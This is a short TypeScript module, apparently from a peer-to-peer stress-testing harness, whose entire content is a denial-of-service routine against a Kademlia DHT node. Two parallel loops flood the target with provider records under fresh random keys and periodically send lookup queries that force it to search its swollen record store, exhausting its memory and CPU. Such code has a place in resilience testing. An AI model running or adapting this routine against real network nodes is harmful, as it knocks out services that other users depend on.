/** Provider records under ever new keys, and questions among them, each of which looks through what is stored. */
import { setImmediate as turn } from 'node:timers/promises'
import { addProvider, DHT, getProviders, newKey } from '../attack/kad.js'
import { connected, peer } from '../attack/peer.js'
import { again, many, type Behaviour } from '../attack/target.js'
import { framed } from '../attack/wire.js'

const RECORDS_A_QUESTION = 500

export const attack: Behaviour = async (target, signal) => many(2, async () => again(signal, async () => {
  const host = await peer(signal)
  const self = host.peerId.toMultihash().bytes
  const stream = await (await connected(target, signal, host)).newStream(DHT)
  stream.addEventListener('message', () => {})
  for (let n = 1; !signal.aborted && stream.status === 'open'; n++) {
    const asks = n % RECORDS_A_QUESTION === 0
    const more = stream.send(framed(asks ? getProviders(newKey()) : addProvider(newKey(), self)))
    if (asks || !more) await turn()
  }
}))
